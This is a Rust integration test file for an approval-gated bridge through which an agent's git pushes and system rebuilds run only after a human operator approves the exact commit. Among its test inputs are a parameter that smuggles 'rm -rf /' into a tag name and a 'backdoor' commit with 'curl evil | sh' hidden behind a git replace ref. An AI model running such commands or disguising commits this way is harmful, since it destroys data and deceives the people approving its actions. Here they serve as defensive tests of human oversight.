//! The effects bridge with real git and real processes: a declared action runs
//! at the approved commit, after approval and only then, once.

use std::collections::HashMap;
use std::path::Path;
use std::process::Command;

use broker::keys;
use harness::{stream, wait_until, Deployment, Process};

use crate::SOON;

/// `deploy` (effects) asks through the console bridge `desk`; `cli:op` decides.
fn config(extra_actions: &str) -> String {
    format!(
        r#"
[agents.ann]

[bridges.deploy]
type = "effects"
approval = {{ notify = "desk", notify_channel = "ops", timeout = 3600, approvers = ["cli:op"] }}

[bridges.deploy.actions.publish-site]
repo = "{{dir}}/work"
command = ["git", "-C", "{{dir}}/work", "push", "origin", "{{sha}}:refs/heads/main"]
target = "origin/main"
env = {{ PATH = "/usr/bin:/bin" }}
timeout = 60
{extra_actions}

[bridges.desk]
type = "console"
output = "{{dir}}/desk.out"
input = "{{dir}}/desk.in"
destinations = ["ops"]
"#
    )
}

pub(crate) fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "user.name=Ann Agent",
            "-c",
            "user.email=ann@example.org",
        ])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .expect("git runs");
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A bare `origin` with one commit on `main`, and a working clone of it.
/// Returns the working clone.
pub(crate) fn repos(d: &Deployment) -> std::path::PathBuf {
    let origin = d.path("origin.git");
    let work = d.path("work");
    git(
        d.dir.path(),
        &[
            "init",
            "-q",
            "--bare",
            "-b",
            "main",
            origin.to_str().unwrap(),
        ],
    );
    git(
        d.dir.path(),
        &[
            "clone",
            "-q",
            origin.to_str().unwrap(),
            work.to_str().unwrap(),
        ],
    );
    commit(&work, "README", "hello\n", "first");
    git(&work, &["push", "-q", "origin", "HEAD:refs/heads/main"]);
    git(&work, &["fetch", "-q", "origin"]);
    work
}

/// Commits `text` to `file` in `repo` and returns the commit's sha.
pub(crate) fn commit(repo: &Path, file: &str, text: &str, subject: &str) -> String {
    std::fs::write(repo.join(file), text).unwrap();
    git(repo, &["add", file]);
    git(repo, &["commit", "-q", "-m", subject]);
    git(repo, &["rev-parse", "HEAD"])
}

pub(crate) fn origin_main(d: &Deployment) -> String {
    git(&d.path("origin.git"), &["rev-parse", "refs/heads/main"])
}

async fn ask(d: &Deployment, action: &str, sha: &str, params: Option<&str>) {
    let mut store = d.store().await;
    let mut fields: Vec<(&str, &[u8])> =
        vec![("action", action.as_bytes()), ("sha", sha.as_bytes())];
    if let Some(p) = params {
        fields.push(("params", p.as_bytes()));
    }
    fields.push(("request_id", b"req-1"));
    store
        .xadd(&keys::agent_outbox("ann", "deploy"), &fields)
        .await
        .unwrap();
}

async fn notices(d: &Deployment) -> Vec<HashMap<String, String>> {
    let mut store = d.store().await;
    stream(&mut store, &keys::agent_inbox("ann", "deploy"))
        .await
        .into_iter()
        .filter(|e| e.get("kind").map(String::as_str) == Some("notice"))
        .collect()
}

async fn notice(d: &Deployment, n: usize) -> HashMap<String, String> {
    wait_until("a notice to the agent", SOON, || async {
        notices(d).await.get(n).cloned()
    })
    .await
}

/// The n-th approval request shown on desk: (approval id, its text).
async fn request(d: &Deployment, n: usize) -> (String, String) {
    let line = wait_until("an approval request on desk", SOON, || async {
        d.delivered("desk.out").get(n).cloned()
    })
    .await;
    (
        line.approval_id.expect("carries its approval id"),
        line.content,
    )
}

fn decide(d: &Deployment, verdict: &str, id: &str) {
    let out = d.cowboy(&["approvals", verdict, id, "--as", "op"]);
    assert!(out.status.success(), "{out:?}");
}

fn outbox(d: &Deployment) -> Process {
    d.process("cowboy-effects-outbox", "deploy")
}

/// Approval of sha A pushes exactly A, even though the agent committed B on
/// top after asking; nothing is pushed before; the approver saw the commit,
/// the exact argv and what it changes; the agent hears `done` with exit 0.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approved_push_publishes_exactly_the_approved_commit() {
    let d = Deployment::new(&config(""));
    let work = repos(&d);
    let before = origin_main(&d);
    let a = commit(&work, "index.html", "<h1>A</h1>\n", "Publish the A page");
    let _desk = d.spawn("outbox", "desk");
    let _outbox = outbox(&d);
    ask(&d, "publish-site", &a, None).await;
    let (id, shown) = request(&d, 0).await;
    for expected in [
        "Publish the A page",
        "Ann Agent <ann@example.org>",
        &format!("{a}:refs/heads/main"),
        "index.html | 1 +",
        "commits this adds to origin/main:",
        "origin/main is ",
    ] {
        assert!(shown.contains(expected), "{expected:?} not shown:\n{shown}");
    }
    // The record says it asks to run an action (its type is gated in the
    // registry): the CLI shows the card, not the agent's fields, and refuses
    // an edit; a record from before the field existed reads the same, and so
    // does one whose field a writer lowered.
    let mut store = d.store().await;
    let record = harness::hash(&mut store, &format!("approval:{id}")).await;
    assert_eq!(
        record.get("gated").map(String::as_str),
        Some("1"),
        "{record:?}"
    );
    for (round, next) in [
        ("written at park time", None),
        ("read by the type", Some("0")),
        ("lowered by a writer", Some("0")),
    ] {
        let show = d.cowboy(&["approvals", "show", &id]);
        let text = String::from_utf8_lossy(&show.stdout);
        assert!(
            text.contains("Publish the A page") && text.contains("derives the command"),
            "{round}: {text}"
        );
        let edit = d.cowboy(&["approvals", "edit", &id, "--content", "x", "--as", "op"]);
        assert!(
            !edit.status.success()
                && String::from_utf8_lossy(&edit.stderr).contains("bound to a commit"),
            "{round}: {edit:?}"
        );
        let key = format!("approval:{id}");
        let _: () = match next {
            None => redis::AsyncCommands::hdel(&mut store.conn, &key, "gated").await,
            Some(value) => redis::AsyncCommands::hset(&mut store.conn, &key, "gated", value).await,
        }
        .unwrap();
    }
    let b = commit(
        &work,
        "index.html",
        "<h1>B</h1>\n",
        "B, written after asking",
    );
    assert_eq!(origin_main(&d), before, "nothing pushed before approval");
    decide(&d, "approve", &id);
    let n = notice(&d, 0).await;
    assert_eq!(n["status"], "done", "{n:?}");
    assert_eq!(n["exit_code"], "0");
    assert_eq!(n["request_id"], "req-1");
    assert_eq!(origin_main(&d), a, "exactly the approved commit");
    assert_ne!(origin_main(&d), b);
}

/// Requests that name no declared action, no full sha, no commit, or params
/// that are not declared or do not match: dead letter and notice, nothing runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invalid_requests_run_nothing() {
    let d = Deployment::new(&config(
        r#"
[bridges.deploy.actions.tag]
repo = "{dir}/work"
command = ["git", "-C", "{dir}/work", "tag", "{name}", "{sha}"]
params = { name = "v[0-9]+" }
env = { PATH = "/usr/bin:/bin" }
"#,
    ));
    let work = repos(&d);
    let before = origin_main(&d);
    let head = git(&work, &["rev-parse", "HEAD"]);
    let tree = git(&work, &["rev-parse", "HEAD^{tree}"]);
    // A 64-hex name in a SHA-1 repository would be looked up as a ref, which
    // can be moved after the approval.
    let branch = "ab".repeat(32);
    git(&work, &["branch", &branch, "HEAD"]);
    let _desk = d.spawn("outbox", "desk");
    let _outbox = outbox(&d);
    let cases: Vec<(&str, String, Option<&str>, &str)> = vec![
        ("nope", head.clone(), None, "unknown action"),
        (
            "publish-site",
            head[..12].to_string(),
            None,
            "not a full commit id",
        ),
        ("publish-site", "0".repeat(40), None, "not an object"),
        ("publish-site", tree, None, "not a commit"),
        ("publish-site", branch, None, "not a sha1 commit id"),
        (
            "tag",
            head.clone(),
            Some(r#"{"name":"v1","force":"yes"}"#),
            "not declared",
        ),
        (
            "tag",
            head.clone(),
            Some(r#"{"name":"v1; rm -rf /"}"#),
            "does not match",
        ),
        ("tag", head.clone(), None, "missing"),
    ];
    for (i, (action, sha, params, why)) in cases.iter().enumerate() {
        ask(&d, action, sha, *params).await;
        let n = notice(&d, i).await;
        assert_eq!(n["status"], "invalid", "{n:?}");
        assert!(n["reason"].contains(why), "{why:?} in {n:?}");
    }
    let mut store = d.store().await;
    assert_eq!(stream(&mut store, "deploy:dead").await.len(), cases.len());
    assert!(d.delivered("desk.out").is_empty(), "nobody was asked");
    assert_eq!(origin_main(&d), before);
    assert!(git(&work, &["tag"]).is_empty(), "no tag made");
}

/// A command that fails reports `failed` with its exit code and output tail;
/// one that hangs is killed at its timeout and reports `timed_out`; a rejected
/// one never runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failures_timeouts_and_rejections_are_reported() {
    let d = Deployment::new(&config(
        r#"
[bridges.deploy.actions.broken]
repo = "{dir}/work"
command = ["/bin/sh", "-c", "echo ran >> {dir}/broken.runs; echo it broke >&2; exit 7"]

[bridges.deploy.actions.hang]
repo = "{dir}/work"
command = ["/bin/sh", "-c", "echo ran >> {dir}/hang.runs; sleep 60"]
timeout = 1
"#,
    ));
    let work = repos(&d);
    let head = git(&work, &["rev-parse", "HEAD"]);
    let _desk = d.spawn("outbox", "desk");
    let _outbox = outbox(&d);

    ask(&d, "broken", &head, None).await;
    decide(&d, "approve", &request(&d, 0).await.0);
    let n = notice(&d, 0).await;
    assert_eq!(n["status"], "failed", "{n:?}");
    assert_eq!(n["exit_code"], "7");
    assert!(n["output"].contains("it broke"), "{n:?}");

    ask(&d, "hang", &head, None).await;
    decide(&d, "approve", &request(&d, 1).await.0);
    let n = notice(&d, 1).await;
    assert_eq!(n["status"], "timed_out", "{n:?}");
    assert!(!n.contains_key("exit_code"));

    ask(&d, "broken", &head, None).await;
    decide(&d, "reject", &request(&d, 2).await.0);
    let n = notice(&d, 2).await;
    assert_eq!(n["status"], "rejected", "{n:?}");
    let runs = std::fs::read_to_string(d.path("broken.runs")).unwrap();
    assert_eq!(runs.lines().count(), 1, "the rejected one never ran");
}

/// The outbox is killed while an approved action runs: after the restart the
/// agent hears `uncertain`, and the action is not run a second time.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_cut_off_by_a_crash_is_uncertain_and_not_run_again() {
    let d = Deployment::new(&config(
        r#"
[bridges.deploy.actions.slow]
repo = "{dir}/work"
command = ["/bin/sh", "-c", "echo ran >> {dir}/slow.runs; sleep 2"]
"#,
    ));
    let work = repos(&d);
    let head = git(&work, &["rev-parse", "HEAD"]);
    let _desk = d.spawn("outbox", "desk");
    let first = outbox(&d);
    ask(&d, "slow", &head, None).await;
    decide(&d, "approve", &request(&d, 0).await.0);
    let runs = d.path("slow.runs");
    wait_until("the action running", SOON, || async {
        std::fs::read_to_string(&runs)
            .ok()
            .filter(|r| !r.is_empty())
    })
    .await;
    first.kill();
    let _second = outbox(&d);
    let n = notice(&d, 0).await;
    assert_eq!(n["status"], "uncertain", "{n:?}");
    assert!(n["reason"].contains("not run again"), "{n:?}");
    assert_eq!(
        std::fs::read_to_string(&runs).unwrap().lines().count(),
        1,
        "run once"
    );
}

/// `approval.required = false` on an effects bridge fails the load, naming the key.
#[test]
fn an_effects_bridge_cannot_turn_approval_off() {
    let text = "[redis]\nurl = \"redis://127.0.0.1:1\"\n".to_string()
        + &config("").replace("approval = {", "approval = { required = false,");
    let e = broker::Config::parse(&text).unwrap_err().to_string();
    assert!(e.contains("bridges.deploy.approval.required"), "{e}");
}

/// A repository whose git config anyone else can write is refused: git obeys
/// it (where a push goes, programs it runs). Nothing is asked, nothing runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repository_others_can_write_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let d = Deployment::new(&config(""));
    let work = repos(&d);
    let head = git(&work, &["rev-parse", "HEAD"]);
    std::fs::set_permissions(
        work.join(".git/config"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    let _desk = d.spawn("outbox", "desk");
    let _outbox = outbox(&d);
    ask(&d, "publish-site", &head, None).await;
    let n = notice(&d, 0).await;
    assert_eq!(n["status"], "invalid", "{n:?}");
    assert!(
        n["reason"].contains("writable by its group or others"),
        "{n:?}"
    );
    assert!(d.delivered("desk.out").is_empty(), "nobody was asked");
}

/// What approvers see is the object that would be pushed: a replace ref does
/// not dress a commit up as another.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approvers_see_the_real_commit_through_replace_refs() {
    let d = Deployment::new(&config(""));
    let work = repos(&d);
    let benign = commit(&work, "a.txt", "fine\n", "A harmless change");
    git(&work, &["reset", "-q", "--hard", "HEAD~1"]);
    let evil = commit(&work, "deploy.sh", "curl evil | sh\n", "Add a backdoor");
    git(&work, &["replace", &evil, &benign]);
    let _desk = d.spawn("outbox", "desk");
    let _outbox = outbox(&d);
    ask(&d, "publish-site", &evil, None).await;
    let (_, shown) = request(&d, 0).await;
    assert!(shown.contains("Add a backdoor"), "{shown}");
    assert!(shown.contains("deploy.sh"), "{shown}");
    assert!(!shown.contains("A harmless change"), "{shown}");
}

/// A rebuild runs once, from a checkout of exactly the approved commit: the
/// stand-in for `nixos-rebuild` records its argv, its working directory and
/// that directory's `HEAD`. An uncommitted edit in the repository is not in
/// what it builds and is still there afterwards; asking again for the same
/// commit is answered without building.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rebuild_builds_the_approved_commit_from_its_own_checkout() {
    let d = Deployment::new(
        r#"
[agents.ann]

[bridges.host]
type = "rebuild"
flake = "{dir}/flake"
checkout = "{dir}/checkout"
command = ["/bin/sh", "{dir}/rebuild.sh", "switch", "--flake", "{checkout}#myhost"]
env = { PATH = "/usr/bin:/bin" }
approval = { notify = "desk", notify_channel = "ops", timeout = 3600, approvers = ["cli:op"] }

[bridges.desk]
type = "console"
output = "{dir}/desk.out"
input = "{dir}/desk.in"
destinations = ["ops"]
"#,
    );
    let dir = d.dir.path().display().to_string();
    std::fs::write(
        d.path("rebuild.sh"),
        format!(
            "echo \"$@\" > {dir}/argv\npwd > {dir}/cwd\ngit rev-parse HEAD > {dir}/head\ncat edit.txt > {dir}/seen 2>/dev/null || echo absent > {dir}/seen\necho ran >> {dir}/runs\n"
        ),
    )
    .unwrap();
    let flake = d.path("flake");
    git(
        d.dir.path(),
        &["init", "-q", "-b", "main", flake.to_str().unwrap()],
    );
    let approved = commit(&flake, "flake.nix", "{ }\n", "The approved system");
    // Uncommitted, and a later commit: neither may be built.
    std::fs::write(flake.join("edit.txt"), "local edit\n").unwrap();
    let _desk = d.spawn("outbox", "desk");
    let _outbox = d.process("cowboy-rebuild-outbox", "host");
    let mut store = d.store().await;
    for _ in 0..2 {
        store
            .xadd(
                &keys::agent_outbox("ann", "host"),
                &[("sha", approved.as_bytes()), ("request_id", b"r")],
            )
            .await
            .unwrap();
    }
    let (first, shown) = request(&d, 0).await;
    assert!(shown.contains("The approved system"), "{shown}");
    assert!(shown.contains(&format!("{dir}/checkout#myhost")), "{shown}");
    decide(&d, "approve", &first);
    let inbox = keys::agent_inbox("ann", "host");
    let done = wait_until("the rebuild's notice", SOON, || async {
        stream(&mut store.clone(), &inbox).await.into_iter().next()
    })
    .await;
    assert_eq!(done["status"], "done", "{done:?}");
    let read = |f: &str| {
        std::fs::read_to_string(d.path(f))
            .unwrap()
            .trim()
            .to_string()
    };
    assert_eq!(read("head"), approved, "built exactly the approved commit");
    assert_eq!(read("cwd"), format!("{dir}/checkout"));
    assert_eq!(
        read("argv"),
        format!("switch --flake {dir}/checkout#myhost")
    );
    assert_eq!(read("seen"), "absent", "the uncommitted edit was not built");
    assert_eq!(
        std::fs::read_to_string(flake.join("edit.txt")).unwrap(),
        "local edit\n",
        "and is still there"
    );
    let (second, _) = request(&d, 1).await;
    decide(&d, "approve", &second);
    let again = wait_until("the second notice", SOON, || async {
        stream(&mut store.clone(), &inbox).await.get(1).cloned()
    })
    .await;
    assert_eq!(again["status"], "done", "{again:?}");
    assert!(again["reason"].contains("nothing to do"), "{again:?}");
    assert_eq!(read("runs").lines().count(), 1, "built once");
}

/// A rebuild command that names the repository itself (where uncommitted edits
/// sit) instead of the checkout fails the load, naming the key.
#[test]
fn a_rebuild_of_the_working_tree_is_a_config_error() {
    let config: broker::Config = broker::Config::parse(
        "[redis]\nurl = \"redis://127.0.0.1:1\"\n[bridges.host]\ntype = \"rebuild\"\ndestinations = [\"ops\"]\nflake = \"/etc/nixos\"\ncheckout = \"/var/lib/cowboy/host\"\ncommand = [\"nixos-rebuild\", \"switch\", \"--flake\", \"/etc/nixos#host\"]\napproval = { notify_channel = \"ops\", approvers = [\"cli:op\"] }\n",
    )
    .unwrap();
    let settings: effects::rebuild::RebuildSettings =
        config.bridges["host"].settings("host").unwrap();
    let e = settings.validate("host").unwrap_err().to_string();
    assert!(e.contains("bridges.host.command"), "{e}");
}

/// A rebuild deployment: `host` builds `{dir}/flake` through `rebuild.sh`,
/// which fails when the checked-out tree holds a file `fail`.
fn rebuild_deployment(checkout: &str) -> Deployment {
    let d = Deployment::new(&format!(
        r#"
[agents.ann]

[bridges.host]
type = "rebuild"
flake = "{{dir}}/flake"
checkout = "{checkout}"
command = ["/bin/sh", "{{dir}}/rebuild.sh", "{{checkout}}"]
env = {{ PATH = "/usr/bin:/bin" }}
approval = {{ notify = "desk", notify_channel = "ops", timeout = 3600, approvers = ["cli:op"] }}

[bridges.desk]
type = "console"
output = "{{dir}}/desk.out"
input = "{{dir}}/desk.in"
destinations = ["ops"]
"#
    ));
    let dir = d.dir.path().display().to_string();
    std::fs::write(
        d.path("rebuild.sh"),
        format!("echo ran >> {dir}/runs\nif [ -e fail ]; then exit 1; fi\n"),
    )
    .unwrap();
    git(
        d.dir.path(),
        &[
            "init",
            "-q",
            "-b",
            "main",
            d.path("flake").to_str().unwrap(),
        ],
    );
    d
}

async fn rebuild(d: &Deployment, n: usize, sha: &str) -> HashMap<String, String> {
    let mut store = d.store().await;
    store
        .xadd(
            &keys::agent_outbox("ann", "host"),
            &[("sha", sha.as_bytes())],
        )
        .await
        .unwrap();
    decide(d, "approve", &request(d, n).await.0);
    let inbox = keys::agent_inbox("ann", "host");
    wait_until("the rebuild's notice", SOON, || async {
        stream(&mut store.clone(), &inbox).await.get(n).cloned()
    })
    .await
}

/// A failed rebuild makes the last good one no longer current: asking for the
/// good commit again builds it again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_failed_rebuild_the_good_commit_is_built_again() {
    let d = rebuild_deployment("{dir}/checkout");
    let flake = d.path("flake");
    let good = commit(&flake, "flake.nix", "{ }\n", "Good");
    let bad = commit(&flake, "fail", "x\n", "Bad");
    let _desk = d.spawn("outbox", "desk");
    let _outbox = d.process("cowboy-rebuild-outbox", "host");
    assert_eq!(rebuild(&d, 0, &good).await["status"], "done");
    assert_eq!(rebuild(&d, 1, &bad).await["status"], "failed");
    let again = rebuild(&d, 2, &good).await;
    assert_eq!(again["status"], "done", "{again:?}");
    assert!(!again["reason"].contains("nothing to do"), "{again:?}");
    let runs = std::fs::read_to_string(d.path("runs")).unwrap();
    assert_eq!(runs.lines().count(), 3, "built each time");
}

/// A checkout path that is a link, or a directory this bridge did not make,
/// is refused and left as it is (the bridge never deletes what is not its own).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_checkout_path_that_is_not_the_bridges_is_left_alone() {
    let d = rebuild_deployment("{dir}/checkout");
    let flake = d.path("flake");
    let sha = commit(&flake, "flake.nix", "{ }\n", "Good");
    let precious = d.path("precious");
    std::fs::create_dir_all(&precious).unwrap();
    std::fs::write(precious.join("keep"), "mine\n").unwrap();
    std::os::unix::fs::symlink(&precious, d.path("checkout")).unwrap();
    let _desk = d.spawn("outbox", "desk");
    let _outbox = d.process("cowboy-rebuild-outbox", "host");
    let n = rebuild(&d, 0, &sha).await;
    assert_eq!(n["status"], "failed", "{n:?}");
    assert!(n["reason"].contains("refused"), "{n:?}");
    assert_eq!(
        std::fs::read_to_string(precious.join("keep")).unwrap(),
        "mine\n"
    );
    std::fs::remove_file(d.path("checkout")).unwrap();
    std::fs::create_dir_all(d.path("checkout")).unwrap();
    std::fs::write(d.path("checkout/other"), "not yours\n").unwrap();
    let n = rebuild(&d, 1, &sha).await;
    assert!(
        n["reason"].contains("not a checkout this bridge made"),
        "{n:?}"
    );
    assert!(d.path("checkout/other").exists());
    assert!(!d.path("runs").exists(), "nothing was built");
}
